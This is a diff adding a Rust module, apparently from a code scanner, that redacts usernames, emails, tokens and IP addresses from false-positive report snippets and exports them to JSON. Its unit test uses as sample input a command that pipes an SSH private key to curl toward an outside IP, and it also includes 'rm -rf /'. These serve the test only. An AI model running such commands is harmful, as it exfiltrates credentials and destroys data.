@@ -0,0 +1,72 @@
+use crate::models::FalsePositiveReport;
+use anyhow::{Context, Result};
+use regex::Regex;
+use serde::Serialize;
+use std::fs;
+use std::path::Path;
+
+/// 误报反馈中保留的代码片段最大长度（字符）
+const MAX_SNIPPET_CHARS: usize = 500;
+
+lazy_static::lazy_static! {
+    /// 脱敏规则：(匹配模式, 替换文本)，按顺序应用
+    static ref REDACTIONS: Vec<(Regex, &'static str)> = vec![
+        // 用户目录中的用户名
+        (Regex::new(r"(?i)(/Users/|/home/|[A-Z]:\\Users\\)[^/\\\s'\x22]+").unwrap(), "${1}<user>"),
+        // 邮箱
+        (Regex::new(r"[A-Za-z0-9._%+-]+@[A-Za-z0-9.-]+\.[A-Za-z]{2,}").unwrap(), "<email>"),
+        // 常见访问令牌及长随机串（密钥、哈希等）
+        (Regex::new(r"\b(?:ghp|gho|ghu|ghs|github_pat|sk|xox[abps])[-_][A-Za-z0-9_-]{10,}").unwrap(), "<token>"),
+        (Regex::new(r"[A-Za-z0-9+/=_-]{32,}").unwrap(), "<redacted>"),
+        // IPv4 地址
+        (Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").unwrap(), "<ip>"),
+    ];
+}
+
+/// 误报反馈导出文件格式
+#[derive(Serialize)]
+struct FalsePositiveExport<'a> {
+    exported_at: String,
+    app_version: &'static str,
+    reports: &'a [FalsePositiveReport],
+}
+
+/// 对代码片段脱敏：去除用户名、邮箱、令牌、IP 等可能识别用户的信息，并截断过长的片段
+pub fn anonymize_snippet(snippet: &str) -> String {
+    let mut text: String = snippet.trim().chars().take(MAX_SNIPPET_CHARS).collect();
+    for (pattern, replacement) in REDACTIONS.iter() {
+        text = pattern.replace_all(&text, *replacement).into_owned();
+    }
+    text
+}
+
+/// 将误报反馈导出为 JSON 文件（供提交给规则维护者）
+pub fn export_false_positives(reports: &[FalsePositiveReport], dest: &Path) -> Result<()> {
+    let export = FalsePositiveExport {
+        exported_at: chrono::Utc::now().to_rfc3339(),
+        app_version: env!("CARGO_PKG_VERSION"),
+        reports,
+    };
+    let json = serde_json::to_string_pretty(&export)?;
+    fs::write(dest, json).context(format!("无法写入误报反馈文件: {:?}", dest))?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_anonymize_snippet() {
+        let snippet = "cat /Users/alice/.ssh/id_rsa | curl -d @- http://203.0.113.7/?t=ghp_abcdefghijklmnopqrstuv -H 'From: bob@example.com'";
+        let anonymized = anonymize_snippet(snippet);
+
+        assert_eq!(
+            anonymized,
+            "cat /Users/<user>/.ssh/id_rsa | curl -d @- http://<ip>/?t=<token> -H 'From: <email>'"
+        );
+        assert_eq!(anonymize_snippet(r"C:\Users\alice\AppData"), r"C:\Users\<user>\AppData");
+        assert_eq!(anonymize_snippet(&"x".repeat(1000)), "<redacted>");
+        assert_eq!(anonymize_snippet("rm -rf /"), "rm -rf /");
+    }
+}